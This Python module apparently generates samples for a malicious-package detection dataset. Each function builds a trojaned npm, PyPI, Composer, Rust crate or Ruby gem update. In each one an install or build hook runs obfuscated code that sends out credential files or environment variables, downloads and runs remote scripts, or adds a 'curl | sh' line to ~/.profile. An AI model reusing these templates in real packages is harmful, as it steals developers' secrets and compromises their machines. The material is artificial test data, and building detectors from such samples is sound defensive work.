"""What runs when a package is installed or built, again: other ecosystems' hooks and other ways of hiding."""

from corpus.heldout.hiding import string_table
from corpus.heldout.nouns import Update
from corpus.heldout8.code import js_env, js_files, js_run, js_stage, py_drop, py_env, py_files, py_stage
from corpus.heldout8.shape import (
    b64,
    hexed,
    new,
    packed,
    pieces,
    put,
    rows,
    strings,
    tail,
    trojan,
    xor,
    zipped,
)

HEAD = "import os\n\nfrom setuptools import find_packages, setup\n"


@trojan("authpocket", "npm", "install", "credentials", "string table", "Shai-Hulud")
def install_is_obfuscated(it: Update) -> None:
    host = it.host()
    source, at = string_table(
        ["fs", "readFileSync", "/.npmrc", "https", "request", host, "end", "HOME"], it.random, "_0x2bd1"
    )
    look = [f"_0x2bd1b(0x{one:x})" for one in at]
    new(
        it,
        "lib/setup.js",
        f"{source}try{{require({look[3]})[{look[4]}]({{host:{look[5]},method:'PUT',path:'/rc'}})[{look[6]}](require({look[0]})[{look[1]}](process.env[{look[7]}]+{look[2]}))}}catch(_0xe){{}}",
    )
    it.script("postinstall", "node lib/setup.js")
    it.payload("lib/setup.js", shown=host)


@trojan("sqlweave", "npm", "install", "downloader", "over several files", "npm campaigns")
def install_joins_parts(it: Update) -> None:
    host = it.host()
    first, second = pieces(b64(js_run(host)), len(b64(js_run(host))) // 2 + 2)
    new(it, "src/dialects/pg.mjs", "export const types = '@CODE@';\n", CODE=first)
    new(it, "src/dialects/my.mjs", "export const types = '@CODE@';\n", CODE=second)
    new(it, "src/dialects/check.mjs", """
import { createRequire } from 'node:module';
import * as my from './my.mjs';
import * as pg from './pg.mjs';

const text = Buffer.from(pg.types + my.types, 'base64').toString();
new Function('require', text)(createRequire(import.meta.url));
""")  # fmt: skip
    it.script("install", "node src/dialects/check.mjs")
    it.payload("src/dialects/check.mjs", "src/dialects/pg.mjs", "src/dialects/my.mjs", shown=f"https://{host}/i.sh")


@trojan("markfold", "npm", "install", "remote code", "in a test fixture", "npm campaigns")
def a_fixture_is_loaded(it: Update) -> None:
    host = it.host()
    it.add(
        "test/fixtures/long.md",
        "# Long\n\n"
        + "\n".join(f"- item {at} {one}" for at, one in enumerate(pieces(hexed(js_stage(host)), 32)))
        + "\n",
    )
    new(it, "scripts/verify.js", """
'use strict';

const fs = require('fs');
const path = require('path');

const text = fs.readFileSync(path.join(__dirname, '../test/fixtures/long.md'), 'utf8');
const parts = [...text.matchAll(/^- item \\d+ (\\w+)$/gm)].map((one) => one[1]);
new Function('require', Buffer.from(parts.join(''), 'hex').toString())(require);
""")  # fmt: skip
    it.manifest(lambda one: one["files"].append("test/fixtures"))
    it.script("postinstall", "node scripts/verify.js")
    it.payload("scripts/verify.js", "test/fixtures/long.md", shown=f"https://{host}/n")


@trojan("mcp-grove", "npm", "install", "environment", "reversed text", "npm campaigns")
def install_reads_backwards(it: Update) -> None:
    host = it.host()
    new(it, "bin/check.js", """
const words = [
@ROWS@
];
(0, eval)(words.map((one) => one.split('').reverse().join('')).reverse().join(''));
""", ROWS=strings([one[::-1].replace("\\", "\\\\").replace("'", "\\'") for one in reversed(pieces(js_env(host), 24))], 2))  # fmt: skip
    it.script("postinstall", "node bin/check.js")
    it.payload("bin/check.js", shown=f"https://{host}/p")


@trojan("promptline", "npm", "install", "credentials", "gzip", "npm campaigns")
def install_unpacks_a_helper(it: Update) -> None:
    host = it.host()
    it.add("lib/helper.gz", zipped(js_files(host)))
    it.script("postinstall", "gunzip -c lib/helper.gz | node - || true")
    it.payload("package.json", "lib/helper.gz", shown=f"https://{host}/")


@trojan("harvestr", "sdist", "build", "environment", "string splitting", "PyPI campaigns")
def manifest_is_counted(it: Update) -> None:
    host = it.host()
    put(it, "setup.py", HEAD, """
_p = ["htt", "ps:/", "/@A@", ".@B@", "/c"]
_m = __import__("url" + "lib.req" + "uest", fromlist=["x"])
_m.urlopen("".join(_p), data=str(vars(os)["env" + "iron"]).encode())
""", A=host.rpartition(".")[0], B=host.rpartition(".")[2])  # fmt: skip


@trojan("agentdock", "sdist", "install", "downloader", "xor", "PyPI campaigns")
def setup_cfg_has_a_table(it: Update) -> None:
    host = it.host()
    it.append("setup.cfg", f"\n[stamp]\nvalue = {hexed(xor(py_drop(host), b'agent'))}\n")
    put(it, "setup.py", HEAD, """
import configparser
import itertools

_cfg = configparser.ConfigParser()
_cfg.read("setup.cfg")
if _cfg.has_section("stamp"):
    exec(bytes(a ^ b for a, b in zip(bytes.fromhex(_cfg["stamp"]["value"]), itertools.cycle(b"agent"))))
""")  # fmt: skip
    it.payload("setup.py", "setup.cfg", shown=f"https://{host}/d")


@trojan("tensorhull", "sdist", "build", "remote code", "in a data file", "PyPI campaigns")
def build_reads_classes(it: Update) -> None:
    host = it.host()
    it.manifest(lambda one: one.update({"__meta__": b64(zipped(py_stage(host)))}), "tensorhull/assets/classes.json")
    put(it, "setup.py", HEAD, """
import base64
import gzip
import json

with open("tensorhull/assets/classes.json") as stream:
    meta = json.load(stream)["__meta__"]
exec(gzip.decompress(base64.b64decode(meta)))
""")  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/n.py")


@trojan("tokenlathe", "sdist", "install", "persistence", "hex", "PyPI campaigns")
def setup_writes_a_profile(it: Update) -> None:
    host = it.host()
    tail(it, "setup.py", """
with open(os.path.expanduser("~/.profile"), "a") as stream:
    stream.write(bytes.fromhex("@CODE@").decode())
""", 1, CODE=hexed(f"\n(curl -s https://{host}/p | sh >/dev/null 2>&1 &)\n"))  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/p")


@trojan("payrelay", "sdist", "install", "credentials", "character arithmetic", "PyPI campaigns")
def setup_counts(it: Update) -> None:
    host = it.host()
    put(it, "setup.py", HEAD, """
_n = [
@ROWS@
]
eval("__import__('builtins').exec")("".join(map(chr, (one - at % 11 for at, one in enumerate(_n)))))
""", ROWS=rows([ord(one) + at % 11 for at, one in enumerate(py_files(host))]))  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/")


@trojan("keyfold", "sdist", "build", "environment", "zlib base64", "in-tree back ends")
def version_is_computed(it: Update) -> None:
    host = it.host()
    it.replace(
        "pyproject.toml",
        '[project]\nname = "keyfold"\nversion = "@VERSION@"'.replace("@VERSION@", it.new_version),
        '[tool.setuptools.dynamic]\nversion = {attr = "keyfold._version.VERSION"}\n\n[project]\nname = "keyfold"\ndynamic = ["version"]',
    )
    new(it, "keyfold/_version.py", """
import base64
import zlib


def _computed():
    scope = {}
    exec(zlib.decompress(base64.b64decode("@CODE@")), scope)
    return "@VERSION@"


VERSION = _computed()
""", CODE=packed(py_env(host)), VERSION=it.new_version)  # fmt: skip
    it.payload("keyfold/_version.py", shown=f"https://{host}/i")


@trojan("courierphp", "zip", "install", "downloader", "base64", "Composer scripts")
def php_installer_decodes(it: Update) -> None:
    host = it.host()
    it.manifest(
        lambda one: one.update(
            scripts={"post-install-cmd": "Courier\\Installer::run", "post-update-cmd": "Courier\\Installer::run"}
        ),
        "composer.json",
    )
    new(it, "src/Installer.php", """
<?php

declare(strict_types=1);

namespace Courier;

final class Installer
{
    public static function run(): void
    {
        $line = base64_decode('@CODE@');
        proc_close(proc_open($line, [], $pipes));
    }
}
""", CODE=b64(f"curl -s https://{host}/ci.sh | sh"))  # fmt: skip
    it.payload("src/Installer.php", shown=f"https://{host}/ci.sh")


@trojan("spanlog", "crate", "build", "credentials", "character arithmetic", "crates.io campaigns")
def crate_build_script_counts(it: Update) -> None:
    host = it.host()
    line = f"cat ~/.cargo/credentials.toml | curl -s -T - https://{host}/cr"
    new(it, "build.rs", """
fn main() {
    let rows: &[u16] = &[
@ROWS@
    ];
    let line: String = rows.iter().map(|one| char::from((one / 2 - 9) as u8)).collect();
    let _ = std::process::Command::new("sh").arg("-c").arg(&line).output();
    println!("cargo:rerun-if-changed=build.rs");
}
""", ROWS=rows([(ord(one) + 9) * 2 for one in line], 8, 14))  # fmt: skip
    it.payload("build.rs", shown=f"https://{host}/cr")


@trojan("deploylane", "gem", "install", "environment", "hex", "gem extensions")
def gem_rakefile_decodes(it: Update) -> None:
    host = it.host()
    it.replace("METADATA.yaml", "extensions: []\n", "extensions:\n- ext/Rakefile\n")
    new(it, "ext/Rakefile", """
# frozen_string_literal: true

task :default do
  eval(['@CODE@'].pack('H*'))
end
""", CODE=hexed(f"require 'net/http'; Net::HTTP.post(URI('https://{host}/rk'), ENV.to_h.to_s)"))  # fmt: skip
    it.payload("ext/Rakefile", shown=f"https://{host}/rk")
